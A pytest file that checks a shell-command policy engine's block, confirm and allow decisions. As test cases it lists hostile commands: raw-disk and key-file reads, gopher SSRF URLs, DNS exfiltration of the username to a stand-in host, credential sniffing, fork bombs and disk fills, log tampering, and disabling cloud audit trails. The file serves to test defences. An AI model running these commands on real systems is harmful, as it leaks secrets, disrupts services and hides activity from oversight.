"""Issue 7, fifth pass: the classes blind corpus #6 found, each judged by what the command is.

Every table holds the commands a class is about *and* neighbours that must keep their verdict
(a listing stays allowed, an ordinary change still asks). The `# new` cases failed on the code
before this pass (measured against the tree at HEAD: see the report of policy-fix6); the others
pin what already held. None of the commands is copied from a corpus sentence: each class is
written from its reason (a raw device, a scheme, a grammar), with forms the corpus does not hold.
"""

from __future__ import annotations

import pytest

from shturman.policy import Policy

Case = tuple[str, str, str | None]  # command, decision, a rule id that must be among reasons

# ---- 1. dangerous commands that were allowed ------------------------------------------------
RAW_DEVICES: list[Case] = [
    ("cat /dev/sdb1", "block", "secrets.raw_device"),  # new
    ("xxd /dev/nvme1n1p2 | head", "block", "secrets.raw_device"),  # new
    ("od -x /dev/xvda", "block", "secrets.raw_device"),  # new
    ("strings /dev/dm-0 | grep -i password", "block", "secrets.raw_device"),  # new
    ("head -c 4096 /dev/md0", "block", "secrets.raw_device"),  # new
    ("tail -c 1M /dev/loop3", "block", "secrets.raw_device"),  # new
    ("hexdump -C /dev/mapper/data-home", "block", "secrets.raw_device"),  # new
    ("dd if=/dev/vdb bs=1M count=1 | base64", "block", "secrets.raw_device"),  # new
    ("cat /dev/input/mice", "block", "secrets.raw_device"),  # new
    ("od /dev/port", "block", "secrets.raw_device"),  # new
    ("cat /dev/vcsa1", "block", "secrets.raw_device"),  # new
    ("cat /dev/mem", "block", None),
    # listing tools name a device without reading its bytes
    ("lsblk /dev/sda", "allow", None),
    ("blkid /dev/sda1", "allow", None),
    ("smartctl -a /dev/nvme0n1", "allow", None),
    ("fdisk -l /dev/vda", "allow", None),
    ("head -c 16 /dev/urandom | xxd", "allow", None),
    ("cat /dev/null", "allow", None),
    # an image written to a file is a backup a person approves
    ("dd if=/dev/sdb of=/backup/sdb.img bs=4M", "confirm", None),
]

KEY_FILES: list[Case] = [
    ("cat /home/deploy/.config/age/keys.txt", "block", "secrets.private_key"),  # new
    ("head -1 ~/.config/sops/age/keys.txt", "block", "secrets.private_key"),  # new
    ("cat /run/credentials/nginx.service/tls_key", "block", None),  # by its name (`*_key`)
    ("cat /run/credentials/app.service/db_url", "block", "secrets.credential_store"),  # new
    ("ls -la /run/credentials/app.service", "allow", None),
    ("grep -r pass /run/credentials", "block", None),  # new
    ("cat /etc/credstore/db.password", "block", "secrets.credential_store"),  # new
    ("cat $CREDENTIALS_DIRECTORY/token", "block", "secrets.variable"),
    ("cat ~/.config/age/README.md", "allow", None),
]

CURL_SCHEMES: list[Case] = [
    ("curl gopher://127.0.0.1:25/_HELO%20x", "block", "net.curl_raw_protocol"),  # new
    ("curl -s dict://localhost:6379/info", "block", "net.curl_raw_protocol"),  # new
    ("curl -sI GOPHER://10.0.0.5:11211/_stats", "block", "net.curl_raw_protocol"),  # new
    ("curl --url gopher://127.0.0.1:6379/_x", "block", None),  # new
    ("curl file:///etc/hostname", "confirm", None),
    ("curl ldap://127.0.0.1/dc=example", "confirm", None),  # new
    ("curl file:///root/.ssh/id_ed25519", "block", "secrets.private_key"),
    ("curl -s http://127.0.0.1:8080/health", "allow", "net.curl_local"),
    ("curl -sI https://example.com", "allow", "net.curl_head"),
]

DNS_NAMES: list[Case] = [
    ("getent hosts $(whoami).x.example.net", "block", "net.exfiltration"),  # new
    ("getent ahostsv4 `hostname`.x.example.net", "block", "net.exfiltration"),  # new
    ("getent hosts db01.internal", "allow", None),
    ("getent ahosts example.com", "allow", None),
    ("getent passwd deploy", "allow", None),
]

BUSY_LOOPS: list[Case] = [
    ("while :; do :; done", "block", "resource.busy_loop"),  # new
    ("until false; do true; done", "block", "resource.busy_loop"),  # new
    ("bash -c 'while true; do :; done'", "block", "resource.busy_loop"),  # new
    ("nice -n 19 sh -c 'while :; do n=1; done'", "block", "resource.busy_loop"),  # new
    ("while true; do sleep 600 & done", "block", "resource.busy_loop"),  # new: a process flood
    ("while true; do uptime; sleep 5; done", "allow", None),
    ('while read -r l; do echo "$l"; done < /etc/hostname', "allow", None),
    ("printf '%0999999999s' x", "block", "resource.memory_bomb"),  # new
    ("y=$(printf '%-123456789d' 1)", "block", "resource.memory_bomb"),  # new
    ("printf '%05d\\n' 42", "allow", None),
    ("printf '%-20s|\\n' name", "allow", None),
]

# ---- 2. harmless read-only tools that needed a person -------------------------------------
READ_TOOLS: list[Case] = [
    ("lslogins -u", "allow", None),  # new
    ("zramctl --output-all", "allow", None),  # new
    ("zramctl --size 4G /dev/zram0", "confirm", None),
    ("hwclock -r", "allow", None),  # new
    ("hwclock --systohc", "confirm", "grammar.changes_state"),  # new (the reason)
    ("uuidgen -r", "allow", None),  # new
    ("pmap -X 4321", "allow", None),  # new
    ("slabtop --once -s c", "allow", None),  # new
    ("slabtop", "confirm", None),
    ("kill -0 4321", "allow", None),  # new
    ("kill -l", "allow", None),  # new
    ("kill -9 4321", "confirm", None),
    ("iw dev wlan1 link", "allow", None),  # new
    ("iw dev wlan0 set type monitor", "confirm", None),
    ("tcpdump --list-interfaces", "allow", None),  # new
    ("tcpdump -i eth0 port 80", "confirm", None),
    ("tshark -r /var/tmp/trace.pcap -q -z conv,tcp", "allow", None),  # new
    ("tshark -r /var/tmp/trace.pcap -w /tmp/copy.pcap", "confirm", "grammar.writes_file"),  # new
    ("tshark -i eth0", "confirm", None),
    ("busctl introspect org.freedesktop.login1 /org/freedesktop/login1", "allow", None),  # new
    ("busctl call org.freedesktop.login1 /org/freedesktop/login1 x PowerOff", "block", None),
    ("homectl list", "allow", None),  # new
    ("homectl inspect deploy -j", "confirm", "grammar.secret_output"),  # new
    ("userdbctl group wheel", "allow", None),  # new
    ("systemd-delta --type=overridden", "allow", None),  # new
    ("systemd-escape --path /srv/my app", "allow", None),  # new
    ("systemd-creds list --system", "allow", None),  # new
    ("oomctl dump", "allow", None),  # new
    ("portablectl list", "allow", None),  # new
    ("portablectl attach /tmp/img.raw", "confirm", None),
    ("udevadm info --query=property --name=/dev/sdb", "allow", None),  # new
    ("udevadm trigger", "confirm", None),
    ("capsh --print", "allow", None),  # new
    ("capsh --drop=cap_sys_admin -- -c id", "confirm", None),
    ("setpriv -d", "allow", None),  # new
    ("setpriv --reuid=0 bash", "confirm", None),
    ("getpcaps 1", "allow", None),  # new
    ("keyctl show @s", "allow", None),  # new
    ("keyctl list @u", "allow", None),  # new
    ("vault status -format=json", "allow", None),  # new
    ("vault auth list", "allow", None),  # new
    ("aws sts get-caller-identity --output json", "allow", None),  # new
    ("aws rds describe-db-instances --region eu-west-1", "allow", None),  # new
    ("aws ec2 terminate-instances --instance-ids i-0abc", "confirm", None),
    ("aws lambda list-functions", "block", None),  # environments hold secrets
    ("gcloud projects list", "allow", None),  # new
    ("az group list -o table", "allow", None),  # new
    ("terraform validate -no-color", "allow", None),  # new
    ("terraform state list", "allow", None),  # new
    ("terraform apply", "confirm", None),
    ("gh auth status", "allow", None),  # new
    ("gh auth status --show-token", "block", None),  # prints the token (eighth pass: forges.yaml)
    ("klist -e", "allow", None),  # new
    ("readelf -d /usr/sbin/nginx", "allow", None),  # new
    ("objdump -h /usr/lib/x86_64-linux-gnu/libssl.so.3", "allow", None),  # new
    ("nm -D /usr/lib/x86_64-linux-gnu/libz.so.1", "allow", None),  # new
    ("ldd /usr/sbin/sshd", "allow", None),  # new
    ("ldd /tmp/unknown-binary", "confirm", None),
    ("sqlite3 /srv/app/data.db .schema orders", "allow", None),  # new
    ("sqlite3 /srv/app/data.db vacuum", "confirm", None),
    ("sqlite3 /srv/app/data.db", "confirm", None),
    ("redis-cli config get maxclients", "allow", None),
    ("redis-cli CONFIG GET maxclients", "confirm", None),  # pinned by corpus.yaml
    ("redis-cli CONFIG GET requirepass", "block", None),
    ("etcdctl endpoint status", "allow", None),  # new
    ("consul members -detailed", "allow", None),  # new
    ("go env GOMODCACHE", "allow", None),  # new
    ("go env -w GOFLAGS=-mod=mod", "confirm", None),
    ("ssh -G web01", "allow", "ssh.query"),  # new
    ("ssh -V", "allow", None),  # new
    ("ssh web01", "confirm", None),
    ("ssh -o ProxyCommand='nc x 22' -G web01", "confirm", None),
    ("ssh-add -L", "allow", None),  # new
    ("ssh-add -D", "confirm", None),
    # secret-key listings stay with a person (test_classes_blind4 pins `gpg -K`)
    ("gpg --list-secret-keys", "confirm", "grammar.secret_output"),
    ("gpg --export --armor ops@example.com", "allow", None),  # new: a public key
    ("gpg --verify SHA256SUMS.sig SHA256SUMS", "allow", None),  # new
    ("gpg --export-secret-keys ops@example.com", "block", None),
    ("ip xfrm policy show", "allow", None),  # new: selectors and actions, no keys
    ("ip x p", "allow", None),  # new
    ("ip xfrm state", "block", None),  # the keys
    ("ip xfrm policy flush", "confirm", None),
    ("dmsetup ls --tree", "allow", None),  # new
    ("dmsetup status", "allow", None),  # new
    ("mailq", "allow", None),  # new
    ("factor 360", "allow", None),  # new
    ("pathchk -p /srv/some/name", "allow", None),  # new
    ("run-parts --list /etc/cron.hourly", "allow", None),  # new
    ("run-parts /etc/cron.hourly", "confirm", None),
    ("wipefs /dev/sdc", "allow", None),  # new
    ("wipefs --json /dev/sdc", "allow", None),  # new
    ("wipefs -a /dev/sdc", "block", "disk.wipe_signatures"),  # new (the reason)
]

# ---- 3. what a person must never be asked to approve ---------------------------------------
NEVER: list[Case] = [
    ("strace -f -p 812 -e trace=read -s 2048", "block", "secrets.credential_sniffing"),  # new
    ("ltrace -p 812 -e crypt", "block", "secrets.credential_sniffing"),  # new
    ("strace -c -p 812", "confirm", None),
    ("bpftrace -e 'uprobe:/lib/libpam.so.0:pam_get_item { printf(\"x\"); }'", "block", None),  # new
    ("tcpdump -l -A -i eth0 port 21 | grep -i pass", "block", "secrets.payload_grep"),  # new
    ("tshark -i any -Y 'http.cookie'", "block", "secrets.credential_sniffing"),  # new
    ("coredumpctl dump gpg-agent -o /tmp/a.core", "block", None),  # new
    ("coredumpctl list", "allow", None),
    ("keyctl pipe %user:api", "block", "secrets.store_readout"),  # new
    ("secret-tool search service ssh", "block", "secrets.store_readout"),  # new
    ("age --decrypt -i key.txt backup.tar.age", "block", None),  # new
    ("systemd-creds cat db_password", "block", "secrets.store_readout"),  # new
    ("dmsetup table --showkeys vg0-crypt", "block", "secrets.store_readout"),  # new
    ("cryptsetup luksDump --dump-master-key /dev/vdb1", "block", None),  # new
    ("cryptsetup luksDump /dev/vdb1", "allow", None),
    ("tofu output -json", "block", "secrets.store_readout"),  # new
    ("terraform state pull > /tmp/s.json", "block", None),  # new
    ("gcloud auth print-identity-token", "block", None),
    ("npm config get _auth", "block", "secrets.store_readout"),  # new
    # a setting that is no credential is a read (eighth pass: npm's config grammar)
    ("npm config get registry", "allow", None),
    ("npm config set registry http://npm.example", "confirm", None),
    ("python3 -m http.server 9000 --directory /", "block", "exposure.serve_root"),  # new
    ("php -S 0.0.0.0:9000 -t /", "block", "exposure.serve_root"),  # new
    ("busybox httpd -f -h / -p 8081", "block", "exposure.serve_root"),  # new
    ("python3 -m http.server 9000 --directory /srv/public", "confirm", None),
    ("perl -e 'fork while 1'", "block", "resource.fork_bomb_code"),  # new
    ("ruby -e 'loop do fork end'", "block", "resource.fork_bomb_code"),  # new
    ('node -e \'for(;;) require("child_process").fork("x.js")\'', "block", None),  # new
    ("yes abc > /srv/fill.txt", "block", "resource.disk_fill"),  # new
    ("cat /dev/urandom > /var/tmp/noise", "block", "resource.disk_fill"),  # new
    ("head -c 200G /dev/zero > /data/blob", "block", "resource.disk_fill"),  # new
    ("head -c 10M /dev/zero > /tmp/ten", "confirm", None),
    ("fallocate -l 2T /data/reserve", "block", "resource.disk_reserve"),  # new
    ("fallocate -l 512G /data/reserve", "block", "resource.disk_reserve"),  # new
    ("fallocate -l 4G /swapfile", "confirm", None),
    ("kill -STOP $(pidof systemd-journald)", "block", None),  # new
    ("killall -9 rsyslogd", "block", "tracks.log_daemon_stop"),  # new
    ("pkill -f gunicorn", "confirm", None),
    ("mount --bind /dev/null /var/log/auth.log", "block", "tracks.log_bind_null"),  # new
    ("mount --bind /srv/data /mnt/data", "confirm", None),
    ("systemctl link /dev/shm/x.service", "block", "persistence.unit_from_tmp"),  # new
    ("systemctl enable /var/tmp/y.service", "block", "persistence.unit_from_tmp"),  # new
    ("systemctl set-environment LD_AUDIT=/tmp/a.so", "block", None),  # new
    ("systemctl set-environment TZ=UTC", "confirm", None),
    ("systemctl enable --now nginx", "confirm", None),
    ("aws cloudtrail delete-trail --name main", "block", "tracks.cloud_audit_off"),  # new
    ("vault audit disable syslog/", "block", "tracks.cloud_audit_off"),  # new
    ("vault audit list", "allow", None),  # new
]

# ---- 4. the reason names what the command does ----------------------------------------------
REASONS: list[Case] = [
    ("openssl genpkey -algorithm rsa -out /etc/app/new.key", "confirm", "fs.write"),  # new
    # seventh pass: a request signed with the key prints no key (the CSR is written); a person
    # decides, as for any file written. Printing the key itself (next line) still blocks.
    ("openssl req -new -key /etc/app/app.key -out /tmp/app.csr", "confirm", "fs.write"),
    ("openssl rsa -in /etc/app/app.key -text", "block", "secrets.private_key"),
    (
        "keytool -importcert -file ca.pem -alias corp -keystore /srv/trust.jks",
        "confirm",
        None,
    ),  # new
    ("cat /srv/trust.jks", "block", "secrets.private_key"),
]

ALL = [
    *(("raw_devices", *c) for c in RAW_DEVICES),
    *(("key_files", *c) for c in KEY_FILES),
    *(("curl_schemes", *c) for c in CURL_SCHEMES),
    *(("dns_names", *c) for c in DNS_NAMES),
    *(("busy_loops", *c) for c in BUSY_LOOPS),
    *(("read_tools", *c) for c in READ_TOOLS),
    *(("never", *c) for c in NEVER),
    *(("reasons", *c) for c in REASONS),
]


@pytest.mark.parametrize(("cls", "command", "decision", "rule"), ALL)
def test_class(policy: Policy, cls: str, command: str, decision: str, rule: str | None) -> None:
    verdict = policy.check_uncached(command)
    ids = [r.rule_id for r in verdict.reasons]
    assert verdict.decision.value == decision, (cls, command, ids)
    if rule is not None:
        assert rule in ids, (cls, command, ids)


def test_wrong_reasons_are_gone(policy: Policy) -> None:
    """An output file is no key read; a signature listing is no format."""
    assert "secrets.private_key" not in [
        r.rule_id for r in policy.check_uncached("openssl genrsa -out /tmp/k.key 2048").reasons
    ]
    assert "disk.format" not in [
        r.rule_id for r in policy.check_uncached("wipefs /dev/sdb").reasons
    ]
